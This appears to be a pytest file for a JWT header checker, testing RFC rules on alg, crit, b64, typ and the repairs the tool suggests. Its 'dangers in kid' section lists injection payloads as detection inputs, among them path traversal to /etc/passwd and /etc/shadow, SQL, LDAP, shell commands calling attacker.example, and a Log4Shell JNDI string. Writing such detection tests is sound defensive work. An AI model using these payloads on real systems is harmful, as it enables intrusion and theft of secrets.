"""The rules of the JOSE header, one by one (RFC 7515 §4, RFC 7797, RFC 8725)."""

from __future__ import annotations

import json
from typing import Any

import pytest

from app.tokens import Finding, decode, encode
from tests.cost import within
from tests.tokens.keyring import SIGNING, b64u, check, codes, make, outcome, private_key


def faults(header: Any) -> list[str]:
    """The codes of what the header is refused for, as the verdict and as decode tell it."""
    text = make(header if isinstance(header, (str, bytes)) else json.dumps(header), '{"exp":1800000000}')
    report = check(text)
    told = codes(report.signature.faults)
    assert set(told) <= set(codes(decode(text).findings))
    assert (outcome(report, "header") == "failed") == bool(told)
    assert (report.signature.status == "verified") == (not told)
    return told


@pytest.mark.parametrize(
    "header",
    [
        pytest.param({"alg": "HS256"}, id="alg alone"),
        pytest.param({"alg": "HS256", "typ": "JWT", "kid": "a"}, id="the common one"),
        pytest.param({"alg": "HS256", "typ": "JWT", "kid": "a", "cty": "x", "x5t": "a", "x5t#S256": "b"}, id="many texts"),
        pytest.param({"alg": "HS256", "x": {"a": [1, None]}, "y": 1.5}, id="private members"),
        pytest.param('{"alg":"HS\\u0032\\u0035\\u0036"}', id="alg with escapes"),
        pytest.param('{"alg":"HS256","n":9007199254740993}', id="a large number"),
    ],
)
def test_a_good_header_is_not_refused(header: Any):
    assert faults(header) == []


@pytest.mark.parametrize(
    ("header", "code"),
    [
        pytest.param({}, "alg_missing", id="no alg"),
        pytest.param({"Alg": "HS256"}, "alg_missing", id="Alg"),
        pytest.param({"alg": None}, "alg_not_a_string", id="alg null"),
        pytest.param({"alg": 256}, "alg_not_a_string", id="alg a number"),
        pytest.param({"alg": ["HS256"]}, "alg_not_a_string", id="alg an array"),
        pytest.param({"alg": {"HS256": 1}}, "alg_not_a_string", id="alg an object"),
        pytest.param({"alg": "hs256"}, "alg_unknown", id="small letters"),
        pytest.param({"alg": " HS256"}, "alg_unknown", id="blank in front"),
        pytest.param({"alg": "HS256\0"}, "alg_unknown", id="NUL behind"),
        pytest.param({"alg": "HMAC-SHA256"}, "alg_unknown", id="HMAC-SHA256"),
        pytest.param({"alg": "RSA-OAEP"}, "alg_unknown", id="RSA-OAEP"),
        pytest.param({"alg": "ES521"}, "alg_unknown", id="ES521"),
    ],
)
def test_alg_must_name_an_algorithm(header: Any, code: str):
    text = make(header)
    report = check(text)
    assert (report.signature.status, outcome(report, "header")) == ("not_checked", "failed")
    assert code in codes(report.findings)
    assert code in codes(decode(text).findings)


@pytest.mark.parametrize(
    ("alg", "guess"),
    [
        ("hs256", "HS256"),
        ("HMAC-SHA256", "HS256"),
        ("RSASHA256", None),
        ("ES-256", "ES256"),
        ("eddsa", "EdDSA"),
        ("MLDSA44", "ML-DSA-44"),
        ("RS265", "RS"),
    ],
)
def test_it_guesses_what_was_meant(alg: str, guess: str | None):
    (finding,) = [one for one in decode(make({"alg": alg})).findings if one.code == "alg_unknown"]
    if guess:
        assert f'Did you mean "{guess}' in finding.message


@pytest.mark.parametrize("alg", ["nOnE", "NONE", "None"])
def test_spellings_of_none_are_named(alg: str):
    (finding,) = [one for one in decode(make({"alg": alg})).findings if one.code == "alg_unknown"]
    assert 'spelling of "none"' in finding.message


def test_an_encryption_algorithm_is_named():
    (finding,) = [one for one in decode(make({"alg": "RSA-OAEP"})).findings if one.code == "alg_unknown"]
    assert "JWE" in finding.message


@pytest.mark.parametrize("name", ["kid", "typ", "cty", "jku", "x5u", "x5t", "x5t#S256"])
@pytest.mark.parametrize("value", [1, None, True, ["a"], {"a": 1}], ids=repr)
def test_texts_must_be_texts(name: str, value: Any):
    assert faults({"alg": "HS256", name: value}) == ["header_parameter_type"]


@pytest.mark.parametrize("value", [1, None, "{}", ["a"]], ids=repr)
def test_jwk_must_be_an_object(value: Any):
    assert faults({"alg": "HS256", "jwk": value}) == ["header_parameter_type"]


@pytest.mark.parametrize("value", [1, None, "MIIB", {"a": 1}, [1], ["MIIB", None]], ids=repr)
def test_x5c_must_be_texts(value: Any):
    assert faults({"alg": "HS256", "x5c": value}) == ["header_parameter_type"]


def test_every_fault_is_told():
    assert faults({"alg": "HS256", "kid": 1, "crit": ["alg", "alg", "x"], "b64": 1}) == [
        "header_parameter_type",
        "crit_twice",
        "crit_standard_name",
        "crit_absent_name",
        "header_parameter_type",
    ]


@pytest.mark.parametrize(
    ("header", "level"),
    [({"jwk": {}}, "warning"), ({"jku": "https://a"}, "warning"), ({"x5u": "https://a"}, "warning"), ({"x5c": []}, "warning")],
)
def test_a_key_of_its_own_is_warned_of(header: Any, level: str):
    (finding,) = [one for one in decode(make({"alg": "HS256"} | header)).findings if one.code == "header_key"]
    assert finding.level == level


def test_type_instead_of_typ_is_noticed():
    assert "type_for_typ" in codes(decode(make({"alg": "HS256", "type": "JWT"})).findings)
    assert "type_for_typ" not in codes(decode(make({"alg": "HS256", "type": "JWT", "typ": "JWT"})).findings)


@pytest.mark.parametrize("alg", SIGNING)
def test_the_short_way_and_the_long_way_agree(alg: str):
    """Four members take the long way through the rules; nothing may depend on that."""
    for more in ({}, {"a": "1"}, {"a": "1", "b": "2", "c": "3"}):
        assert codes(decode(make({"alg": alg} | more, '{"exp":1}')).findings) == []


# where it stands, and what mends it


def noticed(header: Any, payload: str = '{"exp":1800000000}', kind: str = "") -> list[Finding]:
    """What decode says of the header, without what is said of the payload's claims."""
    text = make(header if isinstance(header, (str, bytes)) else json.dumps(header), payload)
    return [one for one in decode(text).findings if one.segment == "header" and (not kind or one.code == kind)]


def mended(header: str, code: str) -> Any:
    """The header after the first repair of the finding *code*, which must be JSON still."""
    repair = next(one for one in noticed(header) if one.code == code).repairs[0]
    assert repair.field == "header"
    assert repair.length is not None
    return json.loads(header[: repair.offset] + repair.text + header[repair.offset + repair.length :])


@pytest.mark.parametrize(
    ("header", "code", "at"),
    [
        pytest.param('{"typ":"JWT","alg":null}', "alg_not_a_string", "null", id="alg null"),
        pytest.param('{"typ":"JWT","alg":"hs256"}', "alg_unknown", '"hs256"', id="alg in small letters"),
        pytest.param('{\n  "typ": "JWT",\n  "alg": "none"}', "alg_none", '"none"', id="none on line 3"),
        pytest.param('{"alg":"HS256","crit":["exp"],"exp":1}', "crit_unknown", '["exp"]', id="crit"),
        pytest.param('{"alg":"HS256","crit":[]}', "crit_form", "[]", id="crit empty"),
        pytest.param('{"alg":"HS256","é":1,"b64":"false"}', "header_parameter_type", '"false"', id="behind another character"),
        pytest.param('{"alg":"HS256","b64":false}', "b64_without_crit", "false", id="b64"),
        pytest.param('{"alg":"HS256","kid":"../x"}', "kid_danger", "../", id="kid, the very characters"),
        pytest.param('{"alg":"HS256","type":"JWT"}', "type_for_typ", '"JWT"', id="type"),
    ],
)
def test_a_finding_stands_where_the_parameter_stands(header: str, code: str, at: str):
    (finding,) = noticed(header, kind=code)
    begin = header.index(at)
    lines = header[:begin].split("\n")
    assert (finding.line, finding.column) == (len(lines), len(lines[-1]) + 1)
    assert finding.offset is not None
    assert finding.length is not None
    told = make(header)[finding.offset : finding.offset + finding.length]
    assert len(header[:begin].encode()) * 4 // 3 == finding.offset
    assert len(told) >= len(at)


@pytest.mark.parametrize(
    ("header", "code", "right"),
    [
        pytest.param('{"alg":"hs256"}', "alg_unknown", {"alg": "HS256"}, id="small letters"),
        pytest.param('{"alg": "HMAC-SHA256" }', "alg_unknown", {"alg": "HS256"}, id="HMAC-SHA256"),
        pytest.param('{"Alg":"HS256","typ":"JWT"}', "alg_missing", {"alg": "HS256", "typ": "JWT"}, id="Alg"),
        pytest.param('{"alg":"HS256","crit":[]}', "crit_form", {"alg": "HS256"}, id="crit empty"),
        pytest.param('{"crit":[],"alg":"HS256"}', "crit_form", {"alg": "HS256"}, id="crit empty, in front"),
        pytest.param('{"alg":"HS256","crit":["alg"]}', "crit_standard_name", {"alg": "HS256"}, id="crit lists alg alone"),
        pytest.param('{"alg":"HS256","crit":["alg","x"],"x":1}', "crit_standard_name", {"alg": "HS256", "crit": ["x"], "x": 1}, id="and x"),
        pytest.param('{"alg":"HS256","crit":["x","y"],"x":1}', "crit_absent_name", {"alg": "HS256", "crit": ["x"], "x": 1}, id="absent"),
        pytest.param(
            '{"alg":"HS256","crit":["x","y","x"],"x":1,"y":1}',
            "crit_twice",
            {"alg": "HS256", "crit": ["x", "y"], "x": 1, "y": 1},
            id="twice",
        ),
        pytest.param('{"alg":"HS256","b64":false}', "b64_without_crit", {"alg": "HS256", "b64": False, "crit": ["b64"]}, id="b64"),
        pytest.param(
            '{"alg":"HS256","b64":false,"crit":["x"],"x":1}',
            "b64_without_crit",
            {"alg": "HS256", "b64": False, "crit": ["x", "b64"], "x": 1},
            id="b64 beside x",
        ),
        pytest.param(
            '{"alg":"HS256","b64":"false","crit":["b64"]}',
            "header_parameter_type",
            {"alg": "HS256", "b64": False, "crit": ["b64"]},
            id="text",
        ),
        pytest.param('{"alg":"HS256","kid":7}', "header_parameter_type", {"alg": "HS256", "kid": "7"}, id="kid a number"),
        pytest.param('{"alg":"HS256","type":"JWT"}', "type_for_typ", {"alg": "HS256", "typ": "JWT"}, id="type"),
        pytest.param('{"alg":"HS256","KID":"a"}', "header_name", {"alg": "HS256", "kid": "a"}, id="KID"),
        pytest.param('{"alg":"HS256","x5t#s256":"a"}', "header_name", {"alg": "HS256", "x5t#S256": "a"}, id="x5t#s256"),
        pytest.param('{"alg":"HS256","keyId":"a"}', "header_alias", {"alg": "HS256", "kid": "a"}, id="keyId"),
        pytest.param('{"alg":"HS256","enc":"A128GCM"}', "header_encryption", {"alg": "HS256"}, id="enc"),
        pytest.param('{"alg":"HS256","b64":true}', "b64_true", {"alg": "HS256"}, id="b64 true"),
        pytest.param('{"alg":"HS256","typ":"JOSE"}', "typ_jose", {"alg": "HS256", "typ": "JWT"}, id="JOSE"),
        pytest.param('{"alg":"HS256","typ":"JOSE+JSON"}', "typ_jose_json", {"alg": "HS256", "typ": "JWT"}, id="JOSE+JSON"),
        pytest.param('{"alg":"HS256","typ":"jwt"}', "typ_case", {"alg": "HS256", "typ": "JWT"}, id="jwt"),
        pytest.param('{"alg":"HS256","cty":"JWT"}', "cty_not_nested", {"alg": "HS256"}, id="cty"),
    ],
)
def test_the_repair_mends_it(header: str, code: str, right: dict[str, Any]):
    assert mended(header, code) == right
    after = json.dumps(right)
    assert code not in [one.code for one in noticed(after)]


@pytest.mark.parametrize("alg", ["nOnE", "NONE", "RSA-OAEP", "A128KW", "foo", "RS265", "HS257", ""])
def test_no_repair_is_offered_where_it_is_a_guess(alg: str):
    (finding,) = noticed({"alg": alg}, kind="alg_unknown")
    assert finding.repairs == ()
    assert finding.fix


@pytest.mark.parametrize(
    ("alg", "name"),
    [
        ("HmacSHA512", "HS512"),
        ("SHA256withRSA", "RS256"),
        ("SHA384withECDSA", "ES384"),
        ("RSASSA-PSS using SHA-256", "PS256"),
        ("SHA512withRSAandMGF1", "PS512"),
        ("RSA-SHA256", "RS256"),
        ("ecdsa-sha256", "ES256"),
        ("ES256k", "ES256K"),
        ("ES521", "ES512"),
        ("eddsa", "EdDSA"),
        ("ed25519", "Ed25519"),
        ("ml-dsa-65", "ML-DSA-65"),
        ("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", "HS256"),
        ("http://www.w3.org/2001/04/xmldsig-more#rsa-sha384", "RS384"),
    ],
)
def test_other_words_for_an_algorithm_are_known(alg: str, name: str):
    (finding,) = noticed({"alg": alg}, kind="alg_unknown")
    assert f'"{name}"' in finding.message
    assert [repair.text for repair in finding.repairs] == [f'"{name}"']


# dangers in kid


@pytest.mark.parametrize(
    ("kid", "told"),
    [
        pytest.param("../../dev/null", "leads out of its folder", id="path"),
        pytest.param("..\\..\\windows\\win.ini", "leads out of its folder", id="path of Windows"),
        pytest.param("..%2f..%2fetc%2fpasswd", "leads out of its folder", id="path in percent signs"),
        pytest.param("/proc/sys/kernel/randomize_va_space", "leads out of its folder", id="absolute path"),
        pytest.param("file:///etc/passwd", "leads out of its folder", id="file:"),
        pytest.param("x' UNION SELECT 'secret", "SQL", id="UNION"),
        pytest.param("1' OR '1'='1", "SQL", id="OR"),
        pytest.param("x'; DROP TABLE keys;--", "SQL", id="DROP"),
        pytest.param('x" or 1=1 --', "SQL", id="double quote"),
        pytest.param("*)(uid=*", "LDAP", id="LDAP"),
        pytest.param("x)(|(cn=*", "LDAP", id="LDAP or"),
        pytest.param("|whoami", "shell command", id="Ruby's open"),
        pytest.param("key; cat /etc/shadow", "shell command", id="semicolon"),
        pytest.param("$(curl attacker.example)", "shell command", id="dollar"),
        pytest.param("`id`", "shell command", id="backticks"),
        pytest.param("${jndi:ldap://attacker.example/a}", "template", id="Log4Shell"),
        pytest.param("<script>alert(1)</script>", "HTML", id="HTML"),
        pytest.param("a\x00b", "NUL", id="NUL"),
        pytest.param("a\r\nSet-Cookie: x", "line break", id="line break"),
    ],
)
def test_a_kid_that_attacks_the_look_up_is_named(kid: str, told: str):
    (finding,) = noticed({"alg": "HS256", "kid": kid}, kind="kid_danger")
    assert (finding.level, finding.spec) == ("warning", "RFC 8725 §3.10")
    assert told in finding.message
    assert check(make({"alg": "HS256", "kid": kid})).signature.status == "verified"


def test_a_kid_with_two_dangers_has_one_finding_that_names_both():
    (finding,) = noticed({"alg": "HS256", "kid": "../../dev/null' OR 1=1--"}, kind="kid_danger")
    assert '("../")' in finding.message
    assert "SQL" in finding.message


def test_a_kid_of_four_kilobytes_is_named():
    (finding,) = noticed({"alg": "HS256", "kid": "k" * 4096}, kind="kid_long")
    assert "4,096 characters" in finding.message
    assert noticed({"alg": "HS256", "kid": "k" * 2048}) == []


@pytest.mark.parametrize(
    "kid",
    [
        "2011-04-29",
        "1b94c",
        "bilbo.baggins@hobbiton.example",
        "NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs",
        "/Ab+c/d==",
        "projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1",
        "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        "https://vault.azure.net/keys/name/version?a=1&id=2;id=3",
        "did:web:example.com#key-1",
        "did:key:z6Mk..abc",
        "O'Brien's key",
        "key (1)",
        "key (a) (b)",
        "a|b",
        "50% and more; or less",
        "union-select",
        "Ключ № 1",
        '{"a":"b","c":1}',
        "v1..2",
        "a < b",
    ],
)
def test_an_honest_kid_is_left_alone(kid: str):
    assert noticed({"alg": "HS256", "kid": kid}) == []


# types, nesting, b64, claims in the header


def test_a_nested_token_needs_cty():
    inner = make({"alg": "HS256"})
    (finding,) = noticed({"alg": "HS256"}, inner)
    assert (finding.code, finding.spec) == ("nested_without_cty", "RFC 7519 §5.2")
    (repair,) = finding.repairs
    assert (repair.text, repair.offset, repair.length) == (',"cty":"JWT"', len('{"alg": "HS256"'), 0)
    for cty in ("JWT", "jwt", "application/jwt"):
        assert noticed({"alg": "HS256", "cty": cty}, inner) == []


@pytest.mark.parametrize(("payload", "kind"), [('{"a":1}', "a claims set"), ("[1]", "an array"), ("hello", "neither JSON nor a token")])
def test_cty_jwt_without_a_token_inside_is_named(payload: str, kind: str):
    (finding,) = noticed({"alg": "HS256", "cty": "JWT"}, payload)
    assert finding.code == "cty_not_nested"
    assert kind in finding.message


def test_a_detached_payload_may_be_a_token():
    assert noticed({"alg": "HS256", "cty": "JWT"}, "") == []


def test_members_of_encryption_are_named_together():
    (finding,) = noticed({"alg": "HS256", "enc": "A128GCM", "epk": {}, "p2c": 1}, kind="header_encryption")
    assert '"enc", "epk" and "p2c", which belong' in finding.message


def test_a_smart_health_card_is_honest():
    header = {"alg": "ES256", "zip": "DEF", "kid": "3Kfdg-XwP-7gXyywtUfUADwBumDOPKMQx-iELL11W9s"}
    card = encode(header, '{"iss":"https://example.org","nbf":1620992383.218}', private_key("ES256")).token
    findings = [one for one in decode(card).findings if one.code != "claim_no_exp"]
    assert [(one.code, one.level) for one in findings] == [("header_zip", "info")]
    assert "It is shown inflated: 50 bytes of 5" in findings[0].message


def test_b64_false_is_no_jwt():
    assert "b64_in_jwt" in [one.code for one in noticed({"alg": "HS256", "b64": False, "crit": ["b64"]})]
    unencoded = b64u('{"alg":"HS256","b64":false,"crit":["b64"]}')
    text = f"{unencoded}.$.02.AAAA"
    assert "b64_dot" in codes(decode(text).findings)


@pytest.mark.parametrize("name", ["iss", "sub", "aud"])
def test_a_claim_in_the_header_is_the_same_in_the_payload(name: str):
    same, other = json.dumps({name: "a"}), json.dumps({name: "b"})
    assert noticed({"alg": "HS256", name: "a"}, same) == []
    assert noticed({"alg": "HS256", name: "a"}, '{"exp":1}') == []
    (finding,) = noticed({"alg": "HS256", name: "a"}, other)
    assert (finding.code, finding.spec) == ("header_claim_differs", "RFC 7519 §5.3")
    assert '"a" and "b"' in finding.message


def test_names_that_differ_in_case_are_named():
    assert noticed({"alg": "HS256", "KID": "a"}, kind="header_name")
    assert noticed({"alg": "HS256", "kid": "a", "KID": "a"}, kind="header_name") == []
    assert noticed({"alg": "HS256", "kid": "a", "keyId": "a", "nonce": "x"}) == []


def test_a_nonce_of_microsoft_is_explained():
    claims = '{"iss":"https://sts.windows.net/00000000-0000-0000-0000-000000000000/"}'
    assert [one.code for one in noticed({"alg": "RS256", "nonce": "x"}, claims)] == ["header_nonce"]
    assert noticed({"alg": "RS256", "nonce": "x"}) == []


@pytest.mark.parametrize(
    "header",
    [
        pytest.param('{"alg":"HS256","kid":"' + "'" * 100_000 + '"}', id="quotes"),
        pytest.param('{"alg":"HS256","kid":"' + "; " * 60_000 + '"}', id="semicolons"),
        pytest.param('{"alg":"HS256","kid":"' + "`" * 100_000 + '"}', id="backticks"),
        pytest.param('{"alg":"HS256","kid":"' + "(" * 100_000 + '"}', id="brackets"),
        pytest.param('{"alg":"HS256",' + ",".join(f'"KI{"d" * at}":1' for at in range(300)) + "}", id="names"),
        pytest.param('{"alg":"HS256","crit":[' + ",".join(f'"{at}"' for at in range(9000)) + "]}", id="crit"),
        pytest.param('{"alg":"HS256","crit":[' + ",".join(['"x"'] * 9000) + "]}", id="crit of one name"),
    ],
)
def test_explaining_a_hostile_header_takes_no_time(header: str):
    text = make(header)
    assert within(0.5, lambda: decode(text).findings) is not None
